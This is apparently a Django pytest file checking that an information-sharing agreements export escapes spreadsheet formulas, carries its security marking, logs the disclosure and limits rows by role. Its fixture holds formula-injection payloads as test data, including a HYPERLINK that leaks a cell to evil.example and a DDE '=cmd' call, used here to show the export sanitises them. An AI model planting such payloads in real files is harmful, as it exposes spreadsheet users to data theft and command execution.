"""The agreements export goes through the core exporter: marked, formula-safe, logged, confined to the reader.

Issue 9: this export wrote `=HYPERLINK(...)` and `=cmd|...` titles into its CSV exactly as typed, so a
spreadsheet opening the file ran them.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from mshtgov.audit import hashed_term
from mshtgov.marking import Marking
from mshtgov.models import AccessAction, AccessLog
from tests.partnerships.factories import make_agreement, two_partnerships

pytestmark = pytest.mark.django_db

HOSTILE = {
    '=HYPERLINK("http://evil.example/?leak="&B3,"Open the agreement")': "ISA-H",
    "=cmd|' /C calc'!A0": "ISA-C",
    "\uff1d1+1 full-width": "ISA-F",
    "  @SUM(1+1)": "ISA-S",
}


@pytest.fixture
def w(users):
    world = two_partnerships(users)
    for title, reference in HOSTILE.items():
        make_agreement(world.p1, by=users["coordinator"], title=title, reference=reference, parties=[world.council])
    return world


def _url(fmt="csv", **query):
    return reverse("partnerships:agreement-export", args=[fmt]) + (
        "?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else ""
    )


def _csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_hostile_titles_are_written_as_text_not_formulas(w, client_for):
    """Fails on the export before issue 9, which wrote these titles as typed."""
    rows = _csv(client_for("coordinator").get(_url()))
    by_reference = {row[0]: row[1] for row in rows[2:]}
    for title, reference in HOSTILE.items():
        assert by_reference[reference] == f"'{title}", reference
    assert by_reference["ALPHA-SHARING-ISA"] == "Alpha sharing ISA"


def test_csv_starts_with_the_marking_and_the_file_name_carries_it(w, users, client_for):
    response = client_for("leader").get(_url())
    assert response["Content-Disposition"] == 'attachment; filename="information-sharing-agreements-OFFICIAL.csv"'
    rows = _csv(response)
    assert rows[0] == ["OFFICIAL"]
    assert rows[1][:2] == ["Reference", "Title"]

    w.p2_agreement.marking = Marking.OFFICIAL_SENSITIVE
    w.p2_agreement._history_user = users["coordinator"]
    w.p2_agreement.save()
    response = client_for("leader").get(_url())
    assert _csv(response)[0] == ["OFFICIAL-SENSITIVE"]
    assert response["Content-Disposition"].endswith('-OFFICIAL-SENSITIVE.csv"')


def test_excel_export_holds_the_same_rows_with_no_formula(w, client_for):
    response = client_for("coordinator").get(_url("xlsx"))
    assert response["Content-Disposition"] == 'attachment; filename="information-sharing-agreements-OFFICIAL.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["OFFICIAL"] + [None] * (len(values[1]) - 1)
    titles = {row[1] for row in values[2:]}
    assert "'=cmd|' /C calc'!A0" in titles and "Alpha sharing ISA" in titles
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_an_export_is_logged_with_the_filters_that_chose_it(w, client_for):
    client_for("coordinator").get(_url(q="Alpha", status="active", partnership=w.p1.pk, page=3))
    log = AccessLog.objects.get(action=AccessAction.DISCLOSE)
    assert log.username == "coordinator" and log.object_type == "partnerships.informationsharingagreement"
    # The typed words only as a salted hash and length (issue 11); the chosen status and partnership as they are.
    assert log.detail["filters"] == {"q": hashed_term("Alpha"), "status": "active", "partnership": str(w.p1.pk)}
    assert set(log.detail["ids"]) == {w.p1_agreement.pk, w.p1_not_party.pk}
    assert log.detail["rows"] == 2 and log.detail["format"] == "csv"


def test_a_partner_exports_only_what_they_may_see(w, client_for):
    rows = _csv(client_for("partner").get(_url()))
    assert [row[1] for row in rows[2:]] == ["Alpha sharing ISA"]


def test_an_unknown_format_is_not_found_and_nothing_is_logged(w, client_for):
    assert client_for("coordinator").get(_url("pdf")).status_code == 404
    assert not AccessLog.objects.filter(action=AccessAction.DISCLOSE).exists()


def test_roles_without_agreements_cannot_export(w, client_for):
    assert client_for("secretary").get(_url()).status_code == 403
    assert not AccessLog.objects.filter(action=AccessAction.DISCLOSE).exists()
